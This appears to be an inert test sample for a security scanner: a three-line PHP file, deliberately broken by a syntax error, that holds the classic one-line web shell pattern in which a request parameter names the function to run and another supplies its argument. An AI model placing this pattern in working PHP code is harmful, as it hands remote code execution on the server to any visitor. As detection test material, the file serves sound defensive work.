<?php
shodo inert sample: deliberate syntax error, this file never runs
$_GET['f']($_GET['a']);
